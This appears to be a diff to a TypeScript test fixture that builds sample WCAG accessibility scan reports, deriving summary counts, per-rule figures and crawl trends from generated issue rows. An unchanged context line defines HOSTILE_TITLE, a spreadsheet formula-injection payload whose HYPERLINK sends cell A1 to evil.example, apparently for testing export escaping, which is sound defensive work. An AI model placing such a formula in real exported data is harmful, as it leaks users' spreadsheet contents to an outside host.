@@ -14,6 +14,7 @@ import type {
   TrendPoint,
 } from '../../src/reports/report-model.ts';
 import { SEVERITIES, type Severity } from '../../src/shared/contracts.ts';
+import { summaryCounts } from '../../src/reports/report-data.ts';
 import { WCAG22_A_AA } from '../../src/shared/wcag.ts';
 
 export const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
@@ -93,9 +94,28 @@ export function sampleReport(opts: SampleReportOptions = {}): Report {
   }
   pages.sort((a, b) => (a.score ?? 101) - (b.score ?? 101) || a.url.localeCompare(b.url));
   const scanned = pages.filter((p) => p.state === 'scanned');
-  const totalIssues = scanned.length * perPage;
 
-  const groups: IssueGroup[] = RULES.map((r, i) => ({
+  // Every count of the report comes from the issue rows `issueRows()` yields (what the Issues sheet
+  // and the API's issue list hold), aggregated as report-data.ts aggregates the findings: per rule
+  // its elements and pages, and the summary's counts through `summaryCounts` itself. (They once
+  // came from formulas of their own: 99 issues over a severity table of 104.)
+  const scannedUrls = new Set(scanned.map((p) => p.url));
+  const perRule = RULES.map(() => ({ elements: 0, pages: new Set<string>() }));
+  for (let p = 0; p < nPages; p++) {
+    if (!scannedUrls.has(pageUrl(p))) continue;
+    for (let k = 0; k < perPage; k++) {
+      const found = perRule[(p + k) % RULES.length]!;
+      found.elements++;
+      found.pages.add(pageUrl(p));
+    }
+  }
+  const totalIssues = perRule.reduce((n, r) => n + r.elements, 0);
+  const { bySeverity, byType, byPrinciple } = summaryCounts(
+    RULES.map((r, i) => ({ severity: r.severity, type: r.type, principle: Number(r.sc.split('.')[0]), n: perRule[i]!.elements })),
+  );
+  const score = Math.round(scanned.reduce((n, p) => n + (p.score ?? 0), 0) / Math.max(1, scanned.length));
+
+  const groups: IssueGroup[] = RULES.flatMap((r, i) => (perRule[i]!.elements ? [{ r, i }] : [])).map(({ r, i }) => ({
     ruleId: r.ruleId,
     title: r.title,
     wcagCriterion: r.sc,
@@ -104,8 +124,8 @@ export function sampleReport(opts: SampleReportOptions = {}): Report {
     principle: principleOf(r.sc),
     severity: r.severity,
     type: r.type,
-    elements: Math.ceil(totalIssues / RULES.length),
-    pages: Math.min(scanned.length, 3 + i),
+    elements: perRule[i]!.elements,
+    pages: perRule[i]!.pages.size,
     description: `${r.title}. People using screen readers or keyboards are affected.`,
     fixSuggestion: `Fix the ${r.ruleId} problem at its source: the page template. For example <img src="logo.png" alt="Example Org home">.`,
     enrichedBy: i % 2 === 0 ? 'offline' : null,
@@ -115,17 +135,17 @@ export function sampleReport(opts: SampleReportOptions = {}): Report {
       selector: k === 1 ? HOSTILE_LINK_TEXT : `#main > p:nth-child(${k + 2}) > img`,
       html: `<img src="/img/${k}.png" class="hero">`,
     })),
-    examplePages: scanned.slice(0, 5).map((p) => p.url),
+    examplePages: [...perRule[i]!.pages].sort().slice(0, 5),
   }));
   const sevRank = (s: Severity) => SEVERITIES.indexOf(s);
   groups.sort((a, b) => sevRank(a.severity) - sevRank(b.severity) || b.pages - a.pages || b.elements - a.elements);
 
   const failingSc = new Map<string, { confirmed: boolean; rules: string[] }>();
-  for (const r of RULES) {
-    const e = failingSc.get(r.sc) ?? { confirmed: false, rules: [] };
-    e.confirmed ||= r.type === 'confirmed';
-    e.rules.push(r.ruleId);
-    failingSc.set(r.sc, e);
+  for (const g of groups) {
+    const e = failingSc.get(g.wcagCriterion) ?? { confirmed: false, rules: [] };
+    e.confirmed ||= g.type === 'confirmed';
+    e.rules.push(g.ruleId);
+    failingSc.set(g.wcagCriterion, e);
   }
   const criteria: CriterionResult[] = WCAG22_A_AA.map((sc, i) => {
     const f = failingSc.get(sc.id);
@@ -136,25 +156,11 @@ export function sampleReport(opts: SampleReportOptions = {}): Report {
       principle: principleOf(sc.id),
       result: f ? (f.confirmed ? 'fails' : 'needs_review') : i % 3 === 0 ? 'passed' : 'not_checked',
       rules: f?.rules ?? [],
-      issues: f ? Math.ceil(totalIssues / RULES.length) * f.rules.length : 0,
-      pages: f ? scanned.length : 0,
+      // As criteriaResults: the criterion's groups' elements, and the most pages one of them reaches.
+      issues: groups.filter((g) => g.wcagCriterion === sc.id).reduce((n, g) => n + g.elements, 0),
+      pages: groups.filter((g) => g.wcagCriterion === sc.id).reduce((n, g) => Math.max(n, g.pages), 0),
     };
   });
-
-  const bySeverity = counts(
-    Object.fromEntries(SEVERITIES.map((s) => [s, groups.filter((g) => g.severity === s).reduce((n, g) => n + g.elements, 0)])),
-  );
-  const trend: TrendPoint[] =
-    kind === 'crawl'
-      ? Array.from({ length: opts.crawls ?? 5 }, (_, i) => ({
-          crawlId: `10000000-0000-4000-8000-00000000000${i}`,
-          completedAt: new Date(Date.UTC(2026, 9, 1 + i * 7)),
-          overallScore: 48 + i * 6,
-          counts: counts({ critical: 40 - i * 5, serious: 80 - i * 7, moderate: 30, minor: 4 }),
-          newIssues: i === 0 ? 154 : 10 + i,
-          fixedIssues: i === 0 ? 0 : 20 + i,
-        }))
-      : [];
 
   const diffRows = (change: 'new' | 'fixed', n: number): DiffRow[] =>
     Array.from({ length: n }, (_, i) => {
@@ -176,8 +182,32 @@ export function sampleReport(opts: SampleReportOptions = {}): Report {
     RULES.map((r) => ({ ruleId: r.ruleId, title: r.title, wcagCriterion: r.sc, severity: r.severity, count: rows.filter((x) => x.ruleId === r.ruleId).length })).filter(
       (x) => x.count > 0,
     );
-  const newList = diffRows('new', 14);
+  // New issues are issues this crawl found: never more than it found.
+  const newList = diffRows('new', Math.min(14, totalIssues));
   const fixedList = diffRows('fixed', 23);
+
+  // The site's crawls a week apart, this crawl last with its own score and counts.
+  const completedAt = new Date('2026-11-23T09:12:34Z');
+  const nCrawls = opts.crawls ?? 5;
+  const trend: TrendPoint[] =
+    kind === 'crawl'
+      ? Array.from({ length: nCrawls }, (_, i) =>
+          i === nCrawls - 1
+            ? { crawlId: '30000000-0000-4000-8000-000000000001', completedAt, overallScore: score, counts: bySeverity, newIssues: newList.length, fixedIssues: fixedList.length }
+            : {
+                crawlId: `10000000-0000-4000-8000-00000000000${i}`,
+                completedAt: new Date(completedAt.getTime() - (nCrawls - 1 - i) * 7 * 86_400_000),
+                overallScore: 48 + i * 6,
+                counts: counts({ critical: 40 - i * 5, serious: 80 - i * 7, moderate: 30, minor: 4 }),
+                newIssues: i === 0 ? 154 : 10 + i,
+                fixedIssues: i === 0 ? 0 : 20 + i,
+              },
+        )
+      : [];
+  const before = trend.at(-2);
+  const previous = before
+    ? { id: before.crawlId, completedAt: before.completedAt, overallScore: before.overallScore }
+    : { id: '10000000-0000-4000-8000-000000000003', completedAt: new Date('2026-11-16T10:00:00Z'), overallScore: 66 };
 
   return {
     kind,
@@ -192,7 +222,7 @@ export function sampleReport(opts: SampleReportOptions = {}): Report {
       name: kind === 'scan' ? pageTitle(0) : 'www.example.org',
       status: kind === 'crawl' && nPages > 3 ? 'completed_partial' : 'completed',
       startedAt: new Date('2026-11-23T09:00:00Z'),
-      completedAt: new Date('2026-11-23T09:12:34Z'),
+      completedAt,
       durationMs: 754_000,
       standard: 'WCAG 2.2 Level A and AA',
       engine: 'axe-core 4.14.1 with the service\u2019s own checks',
@@ -203,22 +233,17 @@ export function sampleReport(opts: SampleReportOptions = {}): Report {
           : null,
     },
     summary: {
-      score: Math.round(scanned.reduce((n, p) => n + (p.score ?? 0), 0) / Math.max(1, scanned.length)),
+      score,
       scoreFormula:
         'Each page scores round(100 \u00d7 \u220f(1 \u2212 w)) over its failing rules, w = 0.20 critical, 0.12 serious, 0.06 moderate, 0.02 minor (a quarter of that when the rule only needs review); the site scores the mean of its pages.',
       text: `The ${kind === 'scan' ? 'page' : 'site'} has ${totalIssues} automated findings across ${groups.length} rules. Start with images without alternative text and form fields without labels.`,
       issues: totalIssues,
-      pagesAffected: scanned.length,
+      pagesAffected: perRule.reduce((all, r) => new Set([...all, ...r.pages]), new Set<string>()).size,
       pagesScanned: scanned.length,
       bySeverity,
-      byType: { confirmed: Math.round(totalIssues * 0.8), needs_review: totalIssues - Math.round(totalIssues * 0.8) },
-      byPrinciple: {
-        Perceivable: groups.filter((g) => g.principle === 'Perceivable').reduce((n, g) => n + g.elements, 0),
-        Operable: groups.filter((g) => g.principle === 'Operable').reduce((n, g) => n + g.elements, 0),
-        Understandable: groups.filter((g) => g.principle === 'Understandable').reduce((n, g) => n + g.elements, 0),
-        Robust: groups.filter((g) => g.principle === 'Robust').reduce((n, g) => n + g.elements, 0),
-      },
-      change: kind === 'crawl' ? { newIssues: newList.length, fixedIssues: fixedList.length, persisting: totalIssues - newList.length, previousScore: 66 } : null,
+      byType,
+      byPrinciple,
+      change: kind === 'crawl' ? { newIssues: newList.length, fixedIssues: fixedList.length, persisting: totalIssues - newList.length, previousScore: previous.overallScore } : null,
     },
     topPriorities: groups.slice(0, 5).map((g) => ({
       title: g.title,
@@ -241,7 +266,7 @@ export function sampleReport(opts: SampleReportOptions = {}): Report {
     diff:
       kind === 'crawl'
         ? {
-            previous: { id: '10000000-0000-4000-8000-000000000003', completedAt: new Date('2026-11-16T10:00:00Z'), overallScore: 66 },
+            previous,
             newIssues: newList.length,
             fixedIssues: fixedList.length,
             newByRule: byRule(newList),
